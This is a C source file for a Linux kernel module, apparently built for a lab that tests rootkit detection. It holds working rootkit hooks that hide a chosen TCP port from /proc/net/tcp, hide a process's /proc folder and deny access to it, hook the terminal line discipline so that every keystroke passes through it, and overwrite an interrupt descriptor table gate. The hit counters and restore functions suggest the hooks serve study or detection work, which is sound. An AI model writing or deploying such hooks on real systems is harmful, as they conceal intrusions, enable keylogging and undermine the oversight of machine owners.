// SPDX-License-Identifier: GPL-2.0-only
/* Pointers to functions in tables of the kernel, and an interrupt's handler. */
#include <linux/atomic.h>
#include <linux/dcache.h>
#include <linux/fs.h>
#include <linux/objtool.h>
#include <linux/seq_file.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <net/sock.h>
#include <net/tcp.h>
#include <asm/desc.h>
#include <asm/irq_vectors.h>
#include <asm/nospec-branch.h>
#include "tricks.h"

static struct trick *ports, *readdir, *permissions, *line;

/* /proc/net/tcp without the sockets of a port. All that are in that list have the beginning of a sock. */
static int show_socket(struct seq_file *seq, void *v)
{
	atomic_inc(&ports->hits);
	if (v != SEQ_START_TOKEN && ((struct sock *)v)->sk_num == ports->number)
		return 0;
	return ((typeof(&show_socket))ports->original)(seq, v);
}

static int hide_port(struct trick *trick, int number)
{
	ports = trick;
	return replace_pointer(trick, "tcp4_seq_ops", offsetof(struct seq_operations, show), show_socket);
}

struct filtered {
	struct dir_context context;
	struct dir_context *caller;
};

static bool take_entry(struct dir_context *context, const char *name, int length, loff_t at, u64 inode, unsigned int type)
{
	struct dir_context *caller = container_of(context, struct filtered, context)->caller;

	if (is_number(name, length, readdir->number))
		return true;
	caller->pos = context->pos;
	return caller->actor(caller, name, length, at, inode, type);
}

/* /proc without the folder of a process. */
static int filtered_readdir(struct file *file, struct dir_context *caller)
{
	struct filtered filtered = { .context = { .actor = take_entry, .pos = caller->pos }, .caller = caller };
	int result;

	atomic_inc(&readdir->hits);
	result = ((typeof(&filtered_readdir))readdir->original)(file, &filtered.context);
	caller->pos = filtered.context.pos;
	return result;
}

static int hook_file_operations(struct trick *trick, int number)
{
	readdir = trick;
	return replace_pointer(trick, "proc_root_operations", offsetof(struct file_operations, iterate_shared),
			       filtered_readdir);
}

/* The folder of a process, which is listed, has nothing in it for anybody. The first parameter's type changed in 6.3. */
static int denying_permission(void *idmap, struct inode *folder, int mask)
{
	struct dentry *entry;
	bool denied;

	atomic_inc(&permissions->hits);
	/* A name is looked at where that may take time. */
	if (mask & MAY_NOT_BLOCK)
		return -ECHILD;
	entry = d_find_any_alias(folder);
	denied = entry && is_number(entry->d_name.name, entry->d_name.len, permissions->number);
	dput(entry);
	return denied ? -ENOENT : ((typeof(&denying_permission))permissions->original)(idmap, folder, mask);
}

static int hook_inode_operations(struct trick *trick, int number)
{
	permissions = trick;
	return replace_pointer(trick, "proc_tgid_base_inode_operations", offsetof(struct inode_operations, permission),
			       denying_permission);
}

typedef typeof_member(struct tty_ldisc_ops, receive_buf2) receive_fn;

/* Sees every key. The two series disagree on the types of characters, flags and their number, of the same sizes. */
static size_t receive(struct tty_struct *tty, const u8 *characters, const u8 *flags, size_t count)
{
	atomic_inc(&line->hits);
	return ((receive_fn)line->original)(tty, characters, (const void *)flags, count);
}

static int hook_line_discipline(struct trick *trick, int number)
{
	line = trick;
	return replace_pointer(trick, "n_tty_ops", offsetof(struct tty_ldisc_ops, receive_buf2), receive);
}

/* Of posted interrupts, which only a hypervisor with assigned devices gets: never raised in a guest of the lab. */
#define QUIET_VECTOR POSTED_INTR_NESTED_VECTOR

void *lab_tricks_interrupt;
void lab_tricks_stub(void);

/* Goes on to the kernel's own handler with all registers as they are, should it be raised after all. */
asm(".pushsection .text, \"ax\"\n"
    ".type lab_tricks_stub, @function\n"
    "lab_tricks_stub:\n"
    ANNOTATE_NOENDBR
    ANNOTATE_RETPOLINE_SAFE
    "	jmp *lab_tricks_interrupt(%rip)\n"
    ".size lab_tricks_stub, . - lab_tricks_stub\n"
    ".popsection\n");

static void set_handler(gate_desc *gate, unsigned long handler)
{
	gate->offset_low = (u16)handler;
	gate->offset_middle = (u16)(handler >> 16);
	gate->offset_high = (u32)(handler >> 32);
}

static int hook_interrupt(struct trick *trick, int number)
{
	gate_desc *table = kernel_symbol("idt_table"), gate;

	if (!table)
		return -ENOENT;
	gate = table[QUIET_VECTOR];
	trick->symbol = "idt_table";
	trick->number = QUIET_VECTOR;
	trick->address = table + QUIET_VECTOR;
	trick->original = lab_tricks_interrupt = (void *)gate_offset(&gate);
	trick->target = lab_tricks_stub;
	set_handler(&gate, (unsigned long)trick->target);
	return write_kernel(trick->address, &gate, sizeof(gate));
}

static void unhook_interrupt(struct trick *trick)
{
	gate_desc gate = *(gate_desc *)trick->address;

	set_handler(&gate, (unsigned long)trick->original);
	write_kernel(trick->address, &gate, sizeof(gate));
}

struct trick pointer_tricks[] = {
	{ .name = "hide-port", .start = hide_port, .stop = restore_pointer },
	{ .name = "hook-file-operations", .start = hook_file_operations, .stop = restore_pointer },
	{ .name = "hook-inode-operations", .start = hook_inode_operations, .stop = restore_pointer },
	{ .name = "hook-line-discipline", .start = hook_line_discipline, .stop = restore_pointer },
	{ .name = "hook-interrupt", .start = hook_interrupt, .stop = unhook_interrupt },
	{}
};
